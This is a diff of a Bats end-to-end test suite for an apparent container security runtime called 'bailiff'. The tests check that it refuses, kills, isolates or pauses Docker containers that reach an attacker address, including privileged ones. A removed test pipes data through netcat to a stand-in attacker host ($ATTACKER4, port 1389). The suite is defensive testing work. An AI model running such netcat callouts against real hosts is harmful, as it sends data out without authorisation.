@@ -4,59 +4,18 @@
 
 load story
 load calls
-# shellcheck source=tests/harness/engine_docker.sh
-source "$E2E_DIR/../harness/engine_docker.sh"
+load docker
 
 setup_file() {
   story_open
   export STORY_RULES=$RULES
   calls_open
   export CALLS_RULES=$RULES RULES=$STORY_RULES
-  docker_open "$ROOTFS"
+  docker_story_open
 }
 teardown_file() { story_close; }
 setup() { attacker_forget_packets; }
-teardown() {
-  local -a all
-  mapfile -t all < <(docker ps --all --quiet)
-  ((${#all[@]} == 0)) || docker rm --force "${all[@]}"
-  story_quiet
-}
-
-# protects [JQ]: dockerd takes examples/docker/daemon.json for this service.
-protects() {
-  local config
-  config=$(jq --arg path "$BAILIFF_BIN/bailiff-runc" \
-    --arg service "$SVC/bailiff.yaml" '.runtimes.bailiff =
-      {path: $path, runtimeArgs: ["--bailiff-config", $service]}
-      | '"${1:-.}" "$REPO_DIR/examples/docker/daemon.json")
-  docker_reload "$config"
-  wait_until 10 "dockerd to take it" docker_has_runtime
-}
-docker_has_runtime() {
-  docker info --format '{{json .Runtimes.bailiff}}' | grep -F "$SVC/"
-}
-
-# shop [FLAG of docker run...] -- COMMAND...
-shop() {
-  local flags=()
-  while [[ $1 != -- ]]; do
-    flags+=("$1")
-    shift
-  done
-  shift
-  docker run --name shop "${flags[@]}" registry.example/shop:1.4 "$@"
-}
-
-# docker_says TEMPLATE WANTED: of the container 'shop'.
-docker_says() { [[ $(docker inspect --format "$1" shop) == "$2" ]]; }
-
-# in_shop_connect ADDRESS
-in_shop_connect() {
-  local command
-  mapfile -d '' -t command < <(connects_to "$1")
-  docker exec shop "${command[@]}"
-}
+teardown() { docker_story_quiet; }
 
 @test "refused, and what is not listed reached" {
   service "$REFUSE_POLICY"
@@ -73,40 +32,7 @@ in_shop_connect() {
     and .bailiff.container.image == "registry.example/shop:1.4"'
 }
 
-@test "killed, and Docker knows" {
-  service "$KILL_POLICY"
-  protects
-  run shop -- sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
-  ((status == 137))
-  (($(attacker_packets) == 0))
-  id=$(docker inspect --format '{{.Id}}' shop)
-  event "$C2_RULE" ".bailiff.container.id == \"$id\"
-    and .bailiff.policy == \"$BLOCK_POLICY\"
-    and .bailiff.outcome == \"killed\""
-  docker_says '{{.State.Status}} {{.State.ExitCode}}' "exited 137"
-  docker rm shop
-  nothing_left_of "$id"
-}
-
-# comes_back POLICY: twice the container is killed and twice it is back, with
-# new processes only.
-comes_back() {
-  service "$KILL_POLICY"
-  protects
-  shop --detach --restart "$1" -- sleep 300
-  for count in 1 2; do
-    docker exec --detach shop sleep 400
-    run in_shop_connect "$ATTACKER4"
-    wait_until 20 "Docker to start it again" docker_says \
-      '{{.RestartCount}} {{.State.Status}}' "$count running"
-    run -0 docker top shop -eo pid,args
-    [[ $output != *"sleep 400"* ]]
-  done
-  (($(attacker_packets) == 0))
-  event "$C2_RULE" '.bailiff.outcome == "killed"'
-  run -0 bailiff_api ps
-  says shop
-}
+@test "killed, and Docker knows" { is_killed; }
 
 @test "restarted on failure it is protected again" { comes_back on-failure; }
 
@@ -149,17 +75,7 @@ comes_back() {
   wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
 }
 
-@test "isolated, and released" {
-  service "$REFUSE_POLICY"
-  protects
-  shop --detach -- sleep 300
-  run -0 bailiff_api isolate shop
-  run in_shop_connect "$HARMLESS4"
-  says "Operation not permitted"
-  run -0 bailiff_api release shop
-  run in_shop_connect "$HARMLESS4"
-  says reached
-}
+@test "isolated, and released" { is_isolated; }
 
 @test "exec is covered" {
   service "$REFUSE_POLICY"
@@ -223,5 +139,55 @@ comes_back() {
   RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
   protects
   run shop --rm --security-opt seccomp=unconfined --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
+  calls_refused
+}
+
+# With every capability, no profile, the host's devices and /sys to write to.
+@test "privileged: refused, the first process and what is executed" {
+  service "$REFUSE_POLICY"
+  protects
+  shop --detach --privileged -- sleep 300
+  docker exec shop mount -t tmpfs none /tmp
+  run in_shop_connect "$ATTACKER4"
+  says "Operation not permitted"
+  run in_shop_connect "$HARMLESS4"
+  says reached
+  (($(attacker_packets) == 0))
+  event "$C2_RULE" '.bailiff.verdict == "denied"
+    and .bailiff.container.name == "shop"'
+  docker rm --force shop
+  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
+  run shop --rm --privileged -- "${command[@]}"
+  says "Operation not permitted"
+  (($(attacker_packets) == 0))
+}
+
+@test "privileged: killed, and Docker knows" { is_killed --privileged; }
+
+@test "privileged: isolated, and released" { is_isolated --privileged; }
+
+@test "privileged: paused, and resumed" {
+  service "$REFUSE_POLICY"
+  protects
+  shop --detach --privileged -- sleep 300
+  run -0 bailiff_api pause shop
+  wait_until 10 "Docker to know" docker_says '{{.State.Status}}' paused
+  run -0 bailiff_api resume shop
+  run in_shop_connect "$HARMLESS4"
+  says reached
+}
+
+@test "privileged: it gets a profile where calls are refused" {
+  RULES=$CALLS_RULES service "$SCRATCH/rules/calls.yaml"
+  protects
+  shop --detach --privileged --tmpfs /tmp -- sleep 300
+  run docker exec shop grep Seccomp: /proc/1/status
+  says 2
+  run docker exec shop /bin/calls "${ALL_CALLS[@]}"
+  calls_refused
+  # Of what has no rule nothing is taken away.
+  run -0 docker exec shop unshare --user true
+  docker rm --force shop
+  run shop --privileged --tmpfs /tmp -- /bin/calls "${ALL_CALLS[@]}"
   calls_refused
 }
